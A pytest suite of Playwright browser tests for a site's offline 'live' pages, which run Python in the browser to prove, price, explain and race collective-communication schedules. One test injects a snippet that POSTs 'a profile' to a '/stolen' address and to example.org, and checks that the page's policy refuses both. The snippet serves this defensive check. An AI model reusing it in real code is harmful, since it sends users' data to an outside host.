"""The site's live pages in Chromium, as a reader uses them; after the first page is loaded, with the network off."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from allranks import planted, profiles
from allranks.cli import main
from allranks.exercises.planted.job import as_job
from click.testing import CliRunner
from live_pages import served

ROOT = Path(__file__).resolve().parents[2]
sys.path.append(str(ROOT / "tests" / "jobs"))
from kineto_files import Profile  # noqa: E402

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]
PATIENCE_MS = 120_000  # Python starts in seconds; on a busy machine in many
PAGES = ("puzzles", "model", "schedule", "explain", "race", "price", "player")


@pytest.fixture(scope="module")
def offline(chromium, live_server) -> Iterator:
    """A function that opens a live page in a browser that has loaded one of them once, and has no network since."""
    context = chromium.new_context(viewport={"width": 1400, "height": 900}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    errors, foreign = [], []
    base = f"http://127.0.0.1:{live_server.server_port}"
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("request", lambda request: foreign.append(request.url) if request.url.startswith("http") else None)
    page.goto(f"{base}/live/schedule.html")
    page.wait_for_selector('body[data-offline="yes"]')
    context.set_offline(True)

    def opened(name: str):
        if page.url.split("/")[-1].split("#")[0] != f"{name}.html":
            page.goto(f"{base}/live/{name}.html")
            page.wait_for_selector('body[data-python="ready"]')
        return page

    yield opened
    context.close()
    assert not errors, f"scripts threw: {errors}"
    assert [url for url in foreign if not url.startswith(base) and "/stolen" not in url] == [], (
        "a request to another host"
    )


def program(page, text: str) -> None:
    """Writes the text into the editor, in place of what is there."""
    page.locator(".cm-content").fill(text)


def run(page) -> str:
    """Presses the page's button, and gives the result once it is there."""
    page.locator("button.run").click()
    page.wait_for_selector('body[data-run=""]')
    return page.locator("[data-part=result]").inner_text()


RING = (ROOT / "tools" / "live" / "examples" / "a_ring.py").read_text()


def test_a_schedule_is_proved_priced_and_played(offline):
    page = offline("schedule")
    assert "Proved: after step 6" in run(page)
    page.wait_for_selector(".ar-player[data-ready]")

    program(page, RING.replace("(r - step)", "r"))
    assert "the contribution of rank 0 was added twice" in run(page)
    assert page.locator(".wrong-line").count() == 0, "no line of the program is known"

    program(page, RING.replace("task.ranks", "task.rank"))
    assert "AttributeError in line 6" in run(page)
    assert page.locator(".wrong-line").inner_text() == "    p = task.rank"

    program(page, "print('hello ' * 3)\nprint('x' * 100_000)\n" + RING)
    page.get_by_label("ranks").fill("8")
    page.get_by_label("bytes").fill("1KiB")
    page.get_by_label("cluster").select_option("p5")
    assert "after step 14" in run(page) and "on p5" in page.locator("[data-part=result]").inner_text()
    printed = page.locator("[data-part=printed] pre").inner_text()
    assert printed.startswith("hello hello hello") and "cut here" in printed and len(printed) < 25_000
    page.locator(".ar-player").press("ArrowRight")
    page.wait_for_selector('.ar-player[data-step="1"]')

    page.get_by_label("Start from").select_option("c_tree_broadcast")
    page.get_by_label("root").fill("3")
    assert "what broadcast promises" in run(page)


def test_a_loop_that_never_ends_is_stopped_and_the_page_goes_on(offline):
    page = offline("schedule")
    page.get_by_label("Start from").select_option("a_ring")
    program(page, RING.replace("    moves = []", "    moves = []\n    while True:\n        pass"))
    page.locator(".cm-content").press("Control+Enter")
    page.wait_for_selector('body[data-run="busy"]')
    page.get_by_role("button", name="Stop").click()
    page.wait_for_selector('body[data-run=""]')
    assert page.get_by_role("alert").inner_text() == "You stopped it."
    assert page.get_by_role("button", name="Stop").is_disabled()
    program(page, RING)
    assert "Proved" in run(page), "Python starts anew, also without a network"


def test_a_program_that_takes_all_memory_ends_and_the_page_goes_on(offline):
    page = offline("schedule")
    program(page, RING.replace("    moves = []", "    raise MemoryError"))  # so that this machine's memory stays free
    assert "The browser's memory is full" in run(page)
    program(page, RING)
    assert "Proved" in run(page)


def test_what_a_program_does_reaches_no_other_host(offline, live_site):
    """The page's policy holds in the worker, too: a profile or a program can't be sent anywhere."""
    page, other = offline("schedule"), served(live_site)
    page.context.set_offline(False)
    try:
        ask = f"""
    import js
    for address in ("http://127.0.0.1:{other.server_port}/stolen", "https://example.org/stolen"):
        request = js.XMLHttpRequest.new()
        request.open("POST", address, False)
        try:
            request.send("a profile")
            print("sent")
        except BaseException as error:
            print("refused")
"""
        program(page, RING.replace("    p = task.ranks\n", f"{ask}\n    p = task.ranks\n"))
        assert "Proved" in run(page)
        assert page.locator("[data-part=printed] pre").inner_text().split("\n")[:2] == ["refused"] * 2
        assert other.asked == []
    finally:
        page.context.set_offline(True)
        other.shutdown()
        other.server_close()


def test_a_profile_is_explained_as_on_the_command_line(offline, tmp_path, monkeypatch):
    page = offline("explain")
    first = page.locator("[data-part=result] pre").inner_text()
    assert first == profiles.explain(as_job(planted.recorded("straggler"))).text(), "the sample, before Python ran"

    for rank in range(2):
        profile = Profile(rank)
        for step in range(6):
            start = 10_000 * step
            profile.compute(start, start + 5000 + 2000 * rank).call(
                "allreduce", start + 5000 + 2000 * rank, start + 9000
            )
        profile.save(tmp_path / f"rank{rank}.json.gz")
    (tmp_path / "notes.txt").write_text("no profile")
    files = ["rank0.json.gz", "rank1.json.gz", "notes.txt"]
    monkeypatch.chdir(tmp_path)
    wanted = CliRunner().invoke(main, ["explain", *files], catch_exceptions=False).output.rstrip("\n")
    page.locator("[data-part=files]").set_input_files([str(tmp_path / name) for name in files])
    page.wait_for_selector("[data-part=result] pre:has-text('notes.txt')")
    assert page.locator("[data-part=result] pre").text_content() == wanted
    assert "rank 1" in wanted.lower() and "straggler" in wanted
    page.wait_for_selector(".ar-player[data-ready]")

    page.locator("[data-part=files]").set_input_files([str(tmp_path / "notes.txt")])
    page.wait_for_selector("[role=alert]")
    assert "No file says anything of a job" in page.get_by_role("alert").inner_text()
    page.locator("[data-part=sample]").select_option("healthy")
    assert run(page).strip() == profiles.explain(as_job(planted.recorded("healthy"))).text().strip()


def test_a_dropped_file_is_explained(offline, tmp_path):
    page = offline("explain")
    page.evaluate(
        """() => {
        const data = new DataTransfer();
        data.items.add(new File(["no profile"], "dropped.txt"));
        document.querySelector("[data-part=drop]").dispatchEvent(
            new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
    }"""
    )
    page.wait_for_selector("[role=alert]:has-text('dropped.txt: its format is not known')")


def test_the_race_gives_the_score_of_the_command(offline, tmp_path):
    page = offline("race")
    entry = ROOT / "utils" / "allranks" / "theory" / "race" / "entries" / "overlapped_nodes.py"
    wanted = CliRunner().invoke(main, ["race", "two-nodes", str(entry)], catch_exceptions=False).output.rstrip("\n")
    page.get_by_label("Start from").select_option("entries/overlapped_nodes.py")
    assert "0.820047" in run(page)
    assert page.locator("[data-part=result] pre").text_content() == wanted
    assert page.locator(".yours:visible").count() == 1
    with page.expect_download() as coming:
        page.get_by_role("button", name="Download").click()
    assert coming.value.suggested_filename == "my_entry.py"
    assert Path(coming.value.path()).read_text() == entry.read_text()
    page.locator("select[data-part=task]").select_option("cube-mesh")
    assert "cube-mesh is all_gather, and the schedule is for 'all_reduce'" in run(page)
    assert page.locator("h2:visible").inner_text().startswith("cube-mesh")


def test_the_calculator_prints_what_the_command_prints(offline):
    page = offline("price")
    page.get_by_label("What to compute").select_option("price zero")
    group = page.locator('[data-command="price zero"]')
    group.get_by_label("stage").fill("2")
    group.get_by_label("topology").select_option("dgx-a100")
    run(page)
    assert page.locator("[data-part=command]").inner_text() == "allranks price zero --stage 2 --topology dgx-a100"
    words = page.locator("[data-part=command]").inner_text().split()[1:]
    wanted = CliRunner().invoke(main, words, catch_exceptions=False).output.rstrip("\n")
    assert page.locator("[data-part=result] pre").text_content() == wanted
    group.get_by_label("stage").fill("7")
    assert "There is no ZeRO stage 7" in run(page)


def without_python(page) -> None:
    """The page's own files come, Python's don't."""
    page.route("**/*.packed", lambda route: route.abort())


def test_the_first_result_needs_no_python(live_server, new_page):
    base = f"http://127.0.0.1:{live_server.server_port}/live"
    page = new_page(service_workers="block")
    without_python(page)
    page.goto(f"{base}/schedule.html")
    page.wait_for_selector(".ar-player[data-ready]")
    assert "Proved: after step 6" in page.locator("[data-part=result]").inner_text()
    page.wait_for_selector('body[data-python="failed"]')
    assert "Reload the page" in page.locator("[data-part=status]").inner_text()
    bare = new_page(java_script_enabled=False)
    bare.goto(f"{base}/schedule.html")
    assert bare.locator("[data-part=stage] img").bounding_box()["width"] > 300
    assert "def schedule(task)" in bare.locator("[data-part=editor]").inner_text()


def test_a_page_that_is_opened_as_a_file_says_what_to_do(live_site, new_page):
    """Browsers load no modules and no Python for a page without an origin."""
    page = new_page()
    page.goto((live_site / "live" / "schedule.html").as_uri())
    assert "run python -m http.server in the site's folder" in page.locator("[data-part=status]").inner_text()
    assert "Proved: after step 6" in page.locator("[data-part=result]").inner_text()
    assert page.locator("[data-part=stage] img").bounding_box()["width"] > 300


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_pages_pass_axe_and_fit_their_window(live_server, new_page, scheme):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
    page = new_page(color_scheme=scheme, bypass_csp=True, service_workers="block")
    without_python(page)
    for name in PAGES:
        page.goto(f"http://127.0.0.1:{live_server.server_port}/live/{name}.html")
        page.wait_for_selector("body[data-ready]")
        paper = page.evaluate("getComputedStyle(document.querySelector('.page')).backgroundColor")
        assert paper == {"light": "rgb(255, 255, 255)", "dark": "rgb(22, 25, 29)"}[scheme]
        found = axe.Axe().run(page).response["violations"]
        assert [(fault["id"], [node["target"] for node in fault["nodes"]]) for fault in found] == [], name
        for width in (400, 800, 1400):
            page.set_viewport_size({"width": width, "height": 900})
            assert page.evaluate("document.documentElement.scrollWidth") <= width, (name, width)


def test_the_keyboard_enters_the_editor_and_leaves_it(live_server, new_page):
    page = new_page(service_workers="block")
    without_python(page)
    page.goto(f"http://127.0.0.1:{live_server.server_port}/live/schedule.html")
    page.wait_for_selector("body[data-ready]")
    page.get_by_label("Start from").focus()
    page.keyboard.press("Tab")
    inside = "document.activeElement.closest('.cm-editor') !== null"
    assert page.evaluate(inside)
    page.keyboard.press("Tab")
    assert page.evaluate(inside), "Tab indents"
    assert page.locator(".cm-line").first.text_content().startswith("    #")
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    assert not page.evaluate(inside)
    assert page.evaluate("document.activeElement.name") == "collective"
